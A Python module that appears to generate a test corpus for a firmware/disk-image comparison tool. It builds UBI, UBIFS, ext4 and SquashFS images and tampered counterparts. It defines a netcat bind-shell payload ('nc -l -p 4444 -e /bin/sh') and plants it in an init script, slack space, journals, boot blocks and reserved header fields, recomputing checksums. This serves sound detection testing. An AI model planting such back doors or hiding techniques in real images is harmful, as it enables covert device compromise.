"""Flash and disk images: UBI (written here), UBIFS, ext4 and SquashFS (by the file systems' own tools)."""

from __future__ import annotations

import os
import struct
import tempfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from functools import cache, partial
from pathlib import Path
from typing import Any

from banbury.compare.corpus.pairs import LAB, VENDOR, Made, Missing, Patch, Recipe, attack, harmless
from banbury.compare.corpus.recipes.trees import Form, form_recipes
from banbury.compare.corpus.toolchain import run
from banbury.compare.corpus.trees import Node, Tree, aged, base, reordered
from banbury.compare.corpus.writers import squashfs, tar, ubi
from banbury.compare.corpus.writers.ubi import Volume

EVIL = b"#!/bin/sh\nnc -l -p 4444 -e /bin/sh\n"
_SAME = frozenset[str]()


# --- UBI -------------------------------------------------------------------------------------------------------------


@cache
def _root() -> bytes:
    return squashfs.write(base())


def _volumes(root: bytes | None = None) -> list[Volume]:
    kernel = bytes(range(256)) * 100
    return [
        Volume(name="kernel", data=kernel, static=True),
        Volume(name="rootfs", data=_root() if root is None else root),
    ]


def _vendor(**more: Any) -> bytes:
    fields: dict[str, Any] = {"seed": 99, "erasures": 3, "sequence": 50}
    return ubi.write(more.pop("volumes", _volumes()), **{**fields, **more})


def _ubi(b: bytes, changes: frozenset[str] | None = _SAME) -> Made:
    return Made(a=ubi.write(_volumes()), b=b, base=_vendor(), changes=changes)


def _evil_root() -> bytes:
    path = "etc/init.d/S50gate"
    return squashfs.write({**base(), path: base()[path].but(data=EVIL)})


def _stale(sequence: int) -> bytes:
    """An eraseblock for the root's first LEB with another sequence number."""
    return ubi.block(1, 0, _evil_root()[: ubi.LEB], sequence=sequence, seed=99, erasures=3)


def _ubi_slack() -> Made:
    clean = _vendor()
    return Patch(clean).put(len(clean) - 1024, EVIL).made(ubi.write(_volumes()), changes=_SAME)


def _ubi_header() -> Made:
    """Reserved bytes of an eraseblock's header, with its checksum made right."""
    clean = _vendor()
    raw = clean[:28] + b"payload!".ljust(32, b"\0")
    return (
        Patch(clean)
        .put(0, raw + struct.pack(">I", zlib.crc32(raw) ^ 0xFFFFFFFF))
        .made(ubi.write(_volumes()), changes=_SAME)
    )


def _ubi_static_slack() -> Made:
    """Behind a static volume's last bytes, in its last eraseblock."""
    clean = _vendor()
    kernel = _volumes()[0].data
    at = 2 * ubi.PEB + (len(kernel) // ubi.LEB) * ubi.PEB + 128 + len(kernel) % ubi.LEB + 64
    return Patch(clean).put(at, EVIL).made(ubi.write(_volumes()), changes=_SAME)


def _renamed() -> bytes:
    kernel, root = _volumes()
    return _vendor(volumes=[kernel, Volume(name="rootfs2", data=root.data)])


def _ubi_same(write: Callable[[], bytes]) -> Made:
    return Made(a=ubi.write(_volumes()), b=write(), changes=_SAME)


def _ubi_recipes() -> Iterator[Recipe]:
    rows = (
        (
            "stale",
            "revival",
            "An older copy of a LEB is left: a torn scan would take it.",
            lambda: _ubi(_vendor(extra=[_stale(1)]), None),
        ),
        (
            "newer",
            "revival",
            "A newer copy of a LEB, with a back door, is the current one.",
            lambda: _ubi(_vendor(extra=[_stale(999)]), None),
        ),
        (
            "content",
            "nested",
            "A script in the file system in a volume is another.",
            lambda: _ubi(_vendor(volumes=_volumes(_evil_root())), None),
        ),
        (
            "extra-volume",
            "extra-member",
            "One more volume.",
            lambda: _ubi(_vendor(volumes=[*_volumes(), Volume(name="data", data=EVIL)]), frozenset({"data:+"})),
        ),
        (
            "name",
            "header",
            "A volume has another name: another file system is mounted.",
            lambda: _ubi(_renamed(), None),
        ),
        (
            "static",
            "header",
            "The kernel's volume is dynamic: its checksums are not looked at.",
            lambda: _ubi(_vendor(volumes=[Volume(name="kernel", data=_volumes()[0].data), _volumes()[1]]), None),
        ),
        (
            "orphan",
            "hidden-space",
            "An eraseblock of a volume that the table does not have.",
            lambda: _ubi(_vendor(extra=[ubi.block(9, 0, EVIL, sequence=60, seed=99, erasures=3)]), None),
        ),
        ("slack", "hidden-space", "An erased block is not empty.", _ubi_slack),
        ("static-slack", "hidden-space", "The rest of a static volume's last block is not empty.", _ubi_static_slack),
        ("header", "hidden-space", "Reserved bytes of a header hold something; its checksum is right.", _ubi_header),
    )
    for name, group, note, make in rows:
        yield attack(f"ubi-{name}", "ubi", group, note, make)
    same = (
        ("seed", "identity", "The image's number differs.", lambda: ubi.write(_volumes(), seed=99)),
        ("erasures", "allocation", "Blocks were erased more often.", lambda: ubi.write(_volumes(), erasures=7)),
        ("sequence", "allocation", "Blocks were written later.", lambda: ubi.write(_volumes(), sequence=500)),
        ("order", "order", "Blocks stand in another order.", lambda: ubi.write(_volumes(), backwards=True)),
        ("free", "padding", "More erased blocks.", lambda: ubi.write(_volumes(), free=4)),
        ("all", "allocation", "Everything that the vendor's build varies, at once.", lambda: _vendor(backwards=True)),
    )
    for name, group, note, write in same:
        yield harmless(f"ubi-same-{name}", "ubi", group, note, partial(_ubi_same, write))


# --- trees on disk, for tools ----------------------------------------------------------------------------------------


def _plant(tree: Tree, folder: Path) -> None:
    """Files, folders and links of the tree; owners, devices and attributes are set in the image."""
    for path, node in tree.items():
        at = folder / path
        if node.kind == "dir":
            at.mkdir(parents=True)
        elif node.kind == "symlink":
            at.symlink_to(node.link)
        elif node.kind == "file":
            at.write_bytes(node.data)
            at.chmod(node.mode)
    for path, node in reversed(tree.items()):
        if node.kind != "char":
            os.utime(folder / path, (node.mtime, node.mtime), follow_symlinks=False)
    os.utime(folder, (LAB["clock"], LAB["clock"]))
    folder.chmod(0o755)


def ubifs(tree: Tree, *, uuid: bytes = b"\x11" * 16, options: Sequence[str] = (), compression: str = "lzo") -> bytes:
    """A UBIFS image by mkfs.ubifs. What it takes from the clock and from chance is replaced, with checksums."""
    with tempfile.TemporaryDirectory(prefix="banbury-corpus-") as scratch:
        folder = Path(scratch)
        (folder / "root").mkdir()
        _plant(tree, folder / "root")
        rows = []
        for path, node in tree.items():
            kind = {"file": "f", "dir": "d", "char": "c"}.get(node.kind)
            if kind:
                device = f"{node.rdev[0]} {node.rdev[1]}" if kind == "c" else "- -"
                rows.append(f"/{path} {kind} {node.mode:o} {node.uid} {node.gid} {device} - - -")
        (folder / "devices").write_text("\n".join(rows) + "\n")
        command = [
            "mkfs.ubifs",
            "-r",
            "root",
            "-m",
            "2048",
            "-e",
            "126976",
            "-c",
            "60",
            "-x",
            compression,
            "-D",
            "devices",
            "-o",
            "out",
        ]
        run([*command, *options], folder, env={"SOURCE_DATE_EPOCH": str(LAB["clock"])})
        return _settled((folder / "out").read_bytes(), uuid)


def _settled(image: bytes, uuid: bytes) -> bytes:
    out = bytearray(image)
    for at in _nodes(image):
        kind, size = out[at + 20], struct.unpack_from("<I", out, at + 16)[0]
        # inode (the empty signature has type 0 too): atime and ctime become mtime; devices have no time
        if kind == 0 and size >= 160:
            mode = struct.unpack_from("<I", out, at + 24 + 80)[0]
            mtime = bytes(out[at + 24 + 48 : at + 24 + 56])
            if mode & 0o170000 != 0o100000 and mode & 0o170000 != 0o120000:
                mtime = struct.pack("<Q", LAB["clock"])
            for field in (32, 40, 48):
                out[at + 24 + field : at + 24 + field + 8] = mtime
            out[at + 24 + 56 : at + 24 + 68] = bytes(12)
        elif kind == 6:  # superblock
            out[at + 24 + 84 : at + 24 + 100] = uuid
        struct.pack_into("<I", out, at + 4, zlib.crc32(bytes(out[at + 8 : at + size])) ^ 0xFFFFFFFF)
    return bytes(out)


def _nodes(image: bytes) -> Iterator[int]:
    """Offsets of a UBIFS image's nodes."""
    at = 0
    while (at := image.find(b"\x31\x18\x10\x06", at)) >= 0:
        size = struct.unpack_from("<I", image, at + 16)[0]
        if (
            at % 8 == 0
            and 24 <= size <= len(image) - at
            and zlib.crc32(image[at + 8 : at + size]) ^ 0xFFFFFFFF == struct.unpack_from("<I", image, at + 4)[0]
        ):
            yield at
            at += size
        else:
            at += 4


def _ubifs_free(clean: bytes) -> bytes:
    """Behind the last node of the last used LEB."""
    last = max(_nodes(clean))
    end = last + struct.unpack_from("<I", clean, last + 16)[0]
    end += -end % 2048 + 2048
    return bytes(Patch(clean).put(end, EVIL).data)


def _ubifs_padding(clean: bytes) -> bytes:
    """A node's group field and padding, with the checksum made right."""
    at = next(a for a in _nodes(clean) if clean[a + 20] == 2)
    patch = Patch(clean).put(at + 22, b"\xab\xcd")
    size = struct.unpack_from("<I", clean, at + 16)[0]
    check = zlib.crc32(bytes(patch.data[at + 8 : at + size])) ^ 0xFFFFFFFF
    return bytes(patch.put(at + 4, struct.pack("<I", check)).data)


# --- ext4 ------------------------------------------------------------------------------------------------------------


#: What mke2fs.conf gives ext4 on most distributions; the machine's own file is not read.
_FEATURES = (
    "has_journal,extent,huge_file,flex_bg,metadata_csum,64bit,dir_nlink,extra_isize,ext_attr,filetype,sparse_super,"
    "large_file,dir_index"
)


def ext4(
    tree: Tree,
    *,
    uuid: str = "11111111-2222-3333-4444-555555555555",
    seed: str = "",
    clock: int = LAB["clock"],
    blocks: int = 4096,
    features: str = _FEATURES,
) -> bytes:
    """An ext4 image by mke2fs and debugfs, with the clock that they are told."""
    with tempfile.TemporaryDirectory(prefix="banbury-corpus-") as scratch:
        folder = Path(scratch)
        env = {"E2FSPROGS_FAKE_TIME": str(clock), "MKE2FS_CONFIG": "/dev/null"}
        command = [
            "mke2fs",
            "-q",
            "-F",
            "-t",
            "ext4",
            "-b",
            "1024",
            "-U",
            uuid,
            "-E",
            f"hash_seed={seed or uuid},lazy_itable_init=0",
            "-N",
            "64",
        ]
        command += ["-J", "size=1", "-I", "256", "-O", features]
        run([*command, "image", str(blocks)], folder, env=env)
        lines = []
        for index, (path, node) in enumerate(tree.items()):
            lines += _ext_lines(path, node, folder, index)
        (folder / "script").write_text("\n".join(lines) + "\n")
        run(["debugfs", "-w", "-f", "script", "image"], folder, env=env)
        return (folder / "image").read_bytes()


_KINDS = {"file": 0o100000, "dir": 0o040000, "symlink": 0o120000, "char": 0o020000}


def _ext_lines(path: str, node: Node, folder: Path, index: int) -> list[str]:
    above, _, name = path.rpartition("/")
    lines = [f"cd /{above}"]
    if node.kind == "dir":
        lines.append(f"mkdir {name}")
    elif node.kind == "symlink":
        lines.append(f"symlink {name} {node.link}")
    elif node.kind == "char":
        lines.append(f"mknod {name} c {node.rdev[0]} {node.rdev[1]}")
    else:
        (folder / f"f{index}").write_bytes(node.data)
        lines.append(f"write {folder / f'f{index}'} {name}")
    lines.append(f"sif {name} mode 0{_KINDS[node.kind] | node.mode:o}")
    lines += [f"sif {name} uid {node.uid}", f"sif {name} gid {node.gid}"]
    lines += [f"sif {name} {field} @{node.mtime}" for field in ("mtime", "atime", "ctime", "crtime")]
    for number, (key, value) in enumerate(node.xattrs.items()):
        (folder / f"x{index}-{number}").write_bytes(value)
        lines.append(f"ea_set -f {folder / f'x{index}-{number}'} {name} {key}")
    return lines


_VENDOR_EXT: dict[str, Any] = {"uuid": "99999999-8888-7777-6666-555555555555", "clock": VENDOR["clock"]}


def _vendor_ext(tree: Tree) -> bytes:
    return ext4(aged(tree), **_VENDOR_EXT)


def _ext_free(clean: bytes) -> bytes:
    """The last block, which nothing uses."""
    if any(clean[-1024:]):
        raise Missing("mke2fs used the last block")
    return bytes(Patch(clean).put(len(clean) - 1024, EVIL).data)


def _ext_journal(clean: bytes) -> bytes:
    """A block of the journal, which is clean and not read."""
    at = clean.index(struct.pack(">II", 0xC03B3998, 4))
    return bytes(Patch(clean).put(at + 50 * 1024, EVIL).data)


def _ext_boot(clean: bytes) -> bytes:
    """The block before the superblock, where a boot loader's code may stand."""
    return bytes(Patch(clean).put(0x100, EVIL).data)


def _ext_slack(clean: bytes) -> bytes:
    """The rest of a file's last block."""
    at = clean.index(b"Welcome\n") + 8
    return bytes(Patch(clean).put(at + 100, EVIL).data)


def _ext_reserved(clean: bytes) -> bytes:
    """Reserved words of the superblock, with its checksum made right."""
    patch = Patch(clean).put(1024 + 0x290, EVIL[:32])
    return bytes(patch.put(1024 + 0x3FC, struct.pack("<I", _crc32c(bytes(patch.data[1024 : 1024 + 0x3FC])))).data)


def _crc32c(data: bytes) -> int:
    """CRC-32C as ext4 uses it: from all ones, not inverted at the end."""
    value = 0xFFFFFFFF
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ (0x82F63B78 if value & 1 else 0)
    return value


def _sqfstar(tree: Tree, *options: str, clock: int = LAB["clock"]) -> bytes:
    """An image by mksquashfs, from a tar stream, so that owners and devices need no rights.

    The variable for the clock also bounds the root's time, which a tar stream does not have."""
    with tempfile.TemporaryDirectory(prefix="banbury-corpus-") as scratch:
        folder = Path(scratch)
        command = [
            "sqfstar",
            "-quiet",
            "-no-progress",
            "-root-mode",
            "755",
            "-root-uid",
            "0",
            "-root-gid",
            "0",
            *options,
        ]
        run([*command, "out"], folder, given=tar.write(tree, owner=""), env={"SOURCE_DATE_EPOCH": str(clock)})
        return (folder / "out").read_bytes()


TOOL_FORMS = (
    Form(
        name="ubifs",
        lab=ubifs,
        vendor=lambda t: ubifs(aged(t), uuid=b"\x99" * 16, compression="zlib"),
        pure=False,
        variants=(
            ("mtime", "clock", "Files have other times.", lambda t: ubifs(aged(t))),
            ("uuid", "identity", "The file system's identity differs.", lambda t: ubifs(t, uuid=b"\x99" * 16)),
            ("compressor", "compression", "Compressed otherwise.", lambda t: ubifs(t, compression="zlib")),
            ("plain", "compression", "Not compressed.", lambda t: ubifs(t, compression="none")),
            ("fanout", "allocation", "The index has other branches.", lambda t: ubifs(t, options=("-f", "16"))),
            ("journal", "allocation", "The journal is larger.", lambda t: ubifs(t, options=("-j", "2MiB"))),
        ),
    ),
    Form(
        name="ext4",
        lab=ext4,
        vendor=_vendor_ext,
        pure=False,
        xattrs=True,
        variants=(
            ("mtime", "clock", "Files have other times.", lambda t: ext4(aged(t))),
            (
                "uuid",
                "identity",
                "The identity and the seed of hashes differ.",
                lambda t: ext4(t, uuid=str(_VENDOR_EXT["uuid"])),
            ),
            ("clock", "clock", "The image was made at another time.", lambda t: ext4(t, clock=VENDOR["clock"])),
            (
                "order",
                "allocation",
                "Files were written in another order: other inodes and blocks.",
                lambda t: ext4(reordered(t)),
            ),
            ("size", "padding", "The image is larger.", lambda t: ext4(t, blocks=6000)),
        ),
    ),
    Form(
        name="squashfs",
        architecture="tool",
        lab=_sqfstar,
        pure=False,
        xattrs=True,
        vendor=lambda t: _sqfstar(aged(t), "-comp", "xz", "-b", "64K", clock=VENDOR["clock"]),
        variants=(
            ("compressor", "compression", "Compressed with xz.", lambda t: _sqfstar(t, "-comp", "xz")),
            ("zstd", "compression", "Compressed with zstd.", lambda t: _sqfstar(t, "-comp", "zstd")),
            ("lzo", "compression", "Compressed with LZO.", lambda t: _sqfstar(t, "-comp", "lzo")),
            ("block-size", "compression", "Blocks are smaller.", lambda t: _sqfstar(t, "-b", "4K")),
            ("fragments", "allocation", "Ends of files are not shared.", lambda t: _sqfstar(t, "-no-fragments")),
            ("exports", "allocation", "There is a table for export by NFS.", lambda t: _sqfstar(t, "-exports")),
            ("clock", "clock", "The image was made at another time.", lambda t: _sqfstar(t, clock=VENDOR["clock"])),
        ),
    ),
)


def _patched(form: Form, change: Callable[[bytes], bytes]) -> Made:
    clean = form.vendor(base())
    return Made(a=form.lab(base()), b=change(clean), base=clean, changes=_SAME)


def recipes() -> Iterator[Recipe]:
    yield from _ubi_recipes()
    for form in TOOL_FORMS:
        yield from form_recipes(form)
    ubifs_form, ext_form, _ = TOOL_FORMS
    rows = (
        (ubifs_form, "free", "hidden-space", "Free space holds something.", _ubifs_free),
        (
            ubifs_form,
            "padding",
            "hidden-space",
            "A node's padding holds something; its checksum is right.",
            _ubifs_padding,
        ),
        (ext_form, "free", "hidden-space", "A free block holds something.", _ext_free),
        (ext_form, "journal", "hidden-space", "The journal, which is clean, holds something.", _ext_journal),
        (ext_form, "boot", "hidden-space", "The block for a boot loader holds something.", _ext_boot),
        (ext_form, "slack", "hidden-space", "The rest of a file's last block holds something.", _ext_slack),
        (ext_form, "reserved", "hidden-space", "Reserved fields of the superblock hold something.", _ext_reserved),
    )
    for form, name, group, note, change in rows:
        yield attack(f"{form.name}-{name}", form.name, group, note, partial(_patched, form, change), pure=False)
